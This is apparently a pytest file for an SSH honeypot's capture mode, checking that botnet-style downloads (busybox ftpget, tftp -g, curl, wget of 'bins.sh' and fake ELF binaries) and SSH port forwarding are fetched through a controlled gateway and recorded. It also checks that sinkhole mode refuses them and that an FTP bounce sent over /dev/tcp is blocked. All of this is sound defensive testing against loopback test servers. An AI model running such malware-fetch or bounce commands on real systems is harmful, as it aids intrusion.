"""``network.mode: capture`` with FTP, TFTP and DNS over TCP: a box's ``busybox ftpget``, ``busybox tftp -g``,
``curl ftp://`` and ``wget`` get their files through the gateway (``network.egress.fetch: true``), each a
``cowrie.session.file_download`` with its sha256, ``destfile`` and stored artifact; in sinkhole mode they are
refused as a server without the file refuses, recorded.

The test's "internet": an FTP server (pyftpdlib) and a TFTP server (tftpy) on port 21 and 69 of a loopback address
of its own (127.77.x.y), the HTTP server of ``test_capture`` on 127.0.0.1, all named through
``network.egress.hosts`` and allowed by ``network.egress.allow: [127.0.0.0/8]``. Nothing else is contacted.
"""

from __future__ import annotations

import asyncio
import hashlib
import logging
import secrets
import threading
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import asyncssh
import pytest
import tftpy
from test_capture import NAME, PAYLOAD, Internet, capture_config, captured, internet, shell  # noqa: F401

from sandtrap.events import (
    DIRECT_TCPIP_REQUEST,
    NETWORK_DNS,
    NETWORK_HTTP,
    NETWORK_TCP,
    SESSION_CLOSED,
    SESSION_FILE_DOWNLOAD,
    SESSION_FILE_DOWNLOAD_FAILED,
)

from sshclient import asyncssh_connected as connect

with warnings.catch_warnings():  # pyftpdlib still imports asyncore (deprecated in 3.11)
    warnings.simplefilter("ignore", DeprecationWarning)
    from pyftpdlib.authorizers import DummyAuthorizer
    from pyftpdlib.handlers import FTPHandler
    from pyftpdlib.servers import FTPServer

FTP_NAME = "ftp.sandtrap-test.com"
TFTP_NAME = "tftp.sandtrap-test.com"
ELF = b"\x7fELF\x02\x01\x01" + secrets.token_bytes(70_000)  # more than 65535 bytes: > 128 TFTP blocks
MIPS = b"\x7fELF\x01\x02\x01" + secrets.token_bytes(3000)


@dataclass
class Servers:
    address: str
    root: Path


@pytest.fixture
def file_servers(tmp_path: Path) -> Iterator[Servers]:
    """FTP on :21 and TFTP on :69 of a loopback address of the test's own, serving ``tmp_path``."""
    address = f"127.77.{secrets.randbelow(250) + 1}.{secrets.randbelow(250) + 1}"
    (tmp_path / "bins").mkdir()
    (tmp_path / "bins" / "x86").write_bytes(ELF)
    (tmp_path / "mips.bin").write_bytes(MIPS)
    logging.getLogger("tftpy").setLevel(logging.WARNING)
    tftp = tftpy.TftpServer(str(tmp_path))
    ready = threading.Event()

    def serve_tftp() -> None:
        ready.set()
        tftp.listen(address, 69, timeout=2)

    tftp_thread = threading.Thread(target=serve_tftp, daemon=True)
    tftp_thread.start()
    ready.wait(5)
    authorizer = DummyAuthorizer()
    authorizer.add_anonymous(str(tmp_path))
    authorizer.add_user("bot", "pw", str(tmp_path))
    handler = type("Handler", (FTPHandler,), {"authorizer": authorizer, "banner": "(vsFTPd 3.0.3)"})
    logging.getLogger("pyftpdlib").setLevel(logging.WARNING)
    ftp = FTPServer((address, 21), handler)
    ftp_thread = threading.Thread(target=ftp.serve_forever, kwargs={"timeout": 0.5}, daemon=True)
    ftp_thread.start()
    try:
        yield Servers(address, tmp_path)
    finally:
        ftp.close_all()
        ftp_thread.join(10)
        tftp.stop(now=True)
        tftp_thread.join(10)


def config(internet: Internet, servers: Servers, fetch: bool = True) -> dict[str, Any]:
    network = capture_config(internet.port, fetch=fetch)
    network["egress"]["allow"] = ["127.0.0.0/8"]
    network["egress"]["hosts"] = {NAME: "127.0.0.1", FTP_NAME: servers.address, TFTP_NAME: servers.address}
    return network


async def test_ftpget_tftp_curl_and_wget_get_their_files_with_destfile(
    captured: Any,
    internet: Internet,
    file_servers: Servers,
) -> None:
    hp = await captured(config(internet, file_servers))
    url = f"http://{NAME}:{internet.port}/bins.sh"
    out, session = await shell(
        hp,
        f"busybox ftpget -u bot -p pw {FTP_NAME} /tmp/f.bin bins/x86; echo ftpget=$?; sha256sum /tmp/f.bin; "
        f"cd /tmp && busybox tftp -g -r mips.bin {TFTP_NAME}; echo tftp=$?; sha256sum /tmp/mips.bin; "
        f"curl -s -o /tmp/c.bin ftp://{FTP_NAME}/bins/x86; echo curl=$?; sha256sum /tmp/c.bin; "
        f"wget -q -O /tmp/w.sh {url}; sha256sum /tmp/w.sh; "
        f"dig +tcp +short {FTP_NAME}; dig +short {FTP_NAME}; ping -c 1 -W 5 {TFTP_NAME} | grep -c ' 0% packet loss'",
        timeout_s=120,
    )
    elf, mips, payload = (hashlib.sha256(x).hexdigest() for x in (ELF, MIPS, PAYLOAD))
    assert "ftpget=0" in out and "tftp=0" in out and "curl=0" in out, out
    assert out.count(elf) == 2 and mips in out and payload in out, out
    downloads = {e.get("url"): e for e in hp.events(SESSION_FILE_DOWNLOAD, session=session)}
    want = {
        f"ftp://bot@{FTP_NAME}/bins/x86": (elf, "/tmp/f.bin"),
        f"tftp://{TFTP_NAME}/mips.bin": (mips, "mips.bin"),
        f"ftp://{FTP_NAME}/bins/x86": (elf, "/tmp/c.bin"),
        url: (payload, "/tmp/w.sh"),
    }
    assert {u: (e.get("shasum"), e.get("destfile")) for u, e in downloads.items()} == want, downloads
    for event in downloads.values():
        stored = hp.settings.data_dir / str(event.get("outfile"))
        assert hashlib.sha256(stored.read_bytes()).hexdigest() == event.get("shasum")
    assert hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session) == []
    # DNS over TCP answers as over UDP (one address per name for the box's life); ping to an answered name works.
    lines = out.strip().splitlines()
    assert lines[-3] == lines[-2] and lines[-3].count(".") == 3 and lines[-1] == "1", out
    assert sum(e.get("query") == FTP_NAME for e in hp.events(NETWORK_DNS, session=session)) >= 2


async def test_active_mode_ftp_is_served_to_the_box_and_a_bounce_is_refused(
    captured: Any,
    internet: Internet,
    file_servers: Servers,
) -> None:
    """curl's active mode (EPRT, then PORT): the gateway connects back to the box's own port from the server's
    address; a PORT naming any other address (an FTP bounce) is refused and nothing is connected."""
    hp = await captured(config(internet, file_servers))
    bounce = "USER a\\r\\nPASS b\\r\\nPORT 127,0,0,1,0,22\\r\\nQUIT\\r\\n"
    out, session = await shell(
        hp,
        f"curl -s -P - -o /tmp/a.bin ftp://{FTP_NAME}/bins/x86; echo eprt=$?; sha256sum /tmp/a.bin; "
        f"curl -s -P - --disable-eprt -o /tmp/p.bin ftp://anonymous:x@{FTP_NAME}/bins/x86; echo port=$?; "
        f"sha256sum /tmp/p.bin; exec 3<>/dev/tcp/{FTP_NAME}/21; printf '{bounce}' >&3; timeout 10 cat <&3",
        timeout_s=120,
    )
    elf = hashlib.sha256(ELF).hexdigest()
    assert "eprt=0" in out and "port=0" in out and out.count(elf) == 2, out
    assert "500 Illegal PORT command." in out and "221 Goodbye." in out, out
    downloads = [e for e in hp.events(SESSION_FILE_DOWNLOAD, session=session)]
    assert sorted(str(e.get("destfile")) for e in downloads) == ["/tmp/a.bin", "/tmp/p.bin"], downloads
    assert {e.get("shasum") for e in downloads} == {elf}


async def test_busybox_clients_in_sinkhole_mode_are_refused_and_recorded(
    captured: Any,
    internet: Internet,
    file_servers: Servers,
) -> None:
    hp = await captured(config(internet, file_servers, fetch=False))
    out, session = await shell(
        hp,
        f"busybox ftpget {FTP_NAME} /tmp/f.bin bins/x86; echo ftpget=$?; "
        f"busybox tftp -g -l /tmp/m -r mips.bin {TFTP_NAME}; echo tftp=$?; ls /tmp",
        timeout_s=120,
    )
    assert "ftpget=1" in out and "tftp=1" in out and "f.bin" not in out, out
    assert "550" in out and "File not found" in out, out  # the servers' own refusals, as the clients print them
    failed = {e.get("url"): e.get("error") for e in hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session)}
    assert failed == {
        f"ftp://{FTP_NAME}/bins/x86": "not fetched (network.egress.fetch: false)",
        f"tftp://{TFTP_NAME}/mips.bin": "not fetched (network.egress.fetch: false)",
    }, failed
    assert hp.events(SESSION_FILE_DOWNLOAD, session=session) == []


async def test_a_hostile_ftp_or_tftp_server_is_bounded(file_servers: Servers) -> None:
    from sandtrap.config import EgressSettings
    from sandtrap.network.fetcher import Failed, Fetcher, Refused

    egress = EgressSettings(allow=["127.0.0.0/8"], hosts={FTP_NAME: file_servers.address}, timeout_s=5)
    fetcher = Fetcher(egress)
    assert await fetcher.fetch_tftp(file_servers.address, "mips.bin", 1 << 20) == MIPS
    with pytest.raises(Failed, match="larger than"):
        await fetcher.fetch_tftp(file_servers.address, "bins/x86", 4096)
    with pytest.raises(Failed, match="larger than"):
        await fetcher.fetch_ftp(FTP_NAME, "/bins/x86", "", "", 4096)
    with pytest.raises(Failed):
        await fetcher.fetch_ftp(FTP_NAME, "/nothing", "", "", 1 << 20)
    with pytest.raises(Refused):  # not allowed: nothing connected
        await Fetcher(EgressSettings()).fetch_tftp(file_servers.address, "mips.bin", 1 << 20)


async def test_ssh_port_forwarding_lands_in_the_gateway_and_is_recorded(
    captured: Any,
    internet: Internet,
    file_servers: Servers,
) -> None:
    """A client's direct-tcpip channel (``ssh -L``, a bot relaying through the sensor) is answered by the gateway
    as the box's own connection would be: an HTTP request fetched and served, other TCP held and recorded."""
    network = config(internet, file_servers)
    network["direct_tcpip"] = "capture"
    hp = await captured(network)
    async with connect(hp) as conn:
        await conn.run("true")
        reader, writer = await conn.open_connection(NAME, internet.port)
        writer.write(f"GET /bins.sh HTTP/1.1\r\nHost: {NAME}:{internet.port}\r\nUser-Agent: relay\r\n\r\n".encode())
        answer = await asyncio.wait_for(reader.read(), 30)
        smtp_reader, smtp = await conn.open_connection("mx.sandtrap-test.com", 25)
        smtp.write(b"EHLO spam.example.com\r\n")
        smtp.write_eof()
        await asyncio.wait_for(smtp_reader.read(), 30)
    closed = await hp.wait_for(SESSION_CLOSED, timeout_s=30)
    session = closed[-1].session
    assert answer.startswith(b"HTTP/1.1 200") and answer.endswith(PAYLOAD), answer[:200]
    requests = hp.events(DIRECT_TCPIP_REQUEST, session=session)
    assert [(e.get("dst_ip"), e.get("dst_port")) for e in requests] == [
        (NAME, internet.port),
        ("mx.sandtrap-test.com", 25),
    ]
    [download] = hp.events(SESSION_FILE_DOWNLOAD, session=session)
    assert download.get("shasum") == hashlib.sha256(PAYLOAD).hexdigest()
    assert [e.get("user_agent") for e in hp.events(NETWORK_HTTP, session=session)] == ["relay"]
    held = [e for e in hp.events(NETWORK_TCP, session=session) if e.get("dst_port") == 25]
    assert held and held[0].get("data") == "EHLO spam.example.com\\r\\n", held


async def test_ssh_port_forwarding_refused_by_default_and_to_loopback(captured: Any, internet: Internet) -> None:
    hp = await captured(capture_config(internet.port))
    async with connect(hp) as conn:
        with pytest.raises(asyncssh.ChannelOpenError, match="open failed"):
            await conn.open_connection(NAME, internet.port)
    closed = await hp.wait_for(SESSION_CLOSED, timeout_s=30)
    assert len(hp.events(DIRECT_TCPIP_REQUEST, session=closed[-1].session)) == 1
    network = capture_config(internet.port)
    network["direct_tcpip"] = "capture"
    hp = await captured(network)
    async with connect(hp) as conn:
        for host in ("127.0.0.1", "localhost", "::1"):
            with pytest.raises(asyncssh.ChannelOpenError, match="open failed"):
                await conn.open_connection(host, 22)
    assert internet.requests == []
